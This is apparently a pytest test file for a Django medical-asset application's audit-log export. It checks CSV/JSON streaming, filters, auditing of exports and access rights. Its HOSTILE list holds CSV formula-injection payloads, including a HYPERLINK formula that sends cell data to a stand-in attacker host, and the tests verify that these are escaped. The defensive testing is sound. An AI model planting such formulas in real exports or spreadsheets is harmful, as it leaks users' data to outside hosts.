"""The audit log's export: the filtered timeline as CSV or JSON, streamed, safe, itself audited."""

from __future__ import annotations

import csv
import datetime
import io
import json
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from medshield.audit.models import AuditEvent
from tests.audit.conftest import change_at, event_at

pytestmark = pytest.mark.django_db

T0 = timezone.make_aware(datetime.datetime(2026, 4, 1, 9, 0))
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+SUM(1)", "-2+3", "@cmd", "'quoted"]


def _body(response: Any) -> str:
    assert response.streaming, "the export must stream, not build the file in memory"
    return b"".join(response.streaming_content).decode("utf-8")


def _csv(auditor_client: Client, **params: str) -> list[dict[str, str]]:
    response = auditor_client.get(reverse("audit-export", args=["csv"]), params)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="medshield-audit-')
    text = _body(response)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_csv_cells_a_spreadsheet_would_run_stay_text(auditor_client: Client) -> None:
    for n, value in enumerate(HOSTILE):
        event_at(T0 + datetime.timedelta(minutes=n), "login_failed", username=value, target=value)
    change_at(T0, object_repr="=1+1", user_name="@sato")
    rows = _csv(auditor_client, since="2026-04-01", until="2026-04-01")
    failed = [r for r in rows if r["action"] == "login_failed"]
    assert [r["user"] for r in failed] == ["'" + v for v in reversed(HOSTILE)]
    assert [r["target"] for r in failed] == ["'" + v for v in reversed(HOSTILE)]
    change = next(r for r in rows if r["kind"] == "change")
    assert (change["target"], change["user"]) == ("'=1+1", "'@sato")
    assert change["object_type"] == "assets.asset"
    assert json.loads(change["detail"]) == {"name": ["old", "new"]}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value


def test_the_export_follows_the_filters(auditor_client: Client) -> None:
    event_at(T0, "login", username="sato")
    event_at(T0, "export", username="suzuki", target="register", detail={"format": "csv"})
    change_at(T0, user_name="sato", object_repr="PACS")
    assert [r["user"] for r in _csv(auditor_client, user="sato")] == ["sato", "sato"]
    response = auditor_client.get(
        reverse("audit-export", args=["json"]), {"action": "export", "until": "2026-04-01"}
    )
    assert response["Content-Type"] == "application/json"
    data = json.loads(_body(response))
    assert data == [
        {
            "action": "export",
            "detail": {"format": "csv"},
            "ip": "",
            "kind": "event",
            "method": "",
            "object_id": "",
            "object_type": "",
            "path": "",
            "target": "register",
            "time": "2026-04-01T09:00:00+09:00",
            "user": "suzuki",
        }
    ]


def test_each_export_is_recorded_with_its_filters(auditor_client: Client) -> None:
    response = auditor_client.get(reverse("audit-export", args=["json"]), {"q": "pump"})
    _body(response)
    event = AuditEvent.objects.get(action="export")
    assert (event.username, event.target, event.method) == ("auditor", "audit log", "GET")
    assert event.ip == "127.0.0.1"
    assert event.detail == {"format": "json", "filters": {"q": "pump"}}
    assert event.path.startswith("/audit/export.json?q=pump")


def test_the_export_needs_the_right(viewer_client: Client) -> None:
    for fmt in ("csv", "json"):
        assert viewer_client.get(reverse("audit-export", args=[fmt])).status_code == 403
    assert Client().get(reverse("audit-export", args=["csv"])).status_code == 302
    assert not AuditEvent.objects.filter(action="export").exists()
    assert viewer_client.get("/audit/export.xlsx").status_code == 404
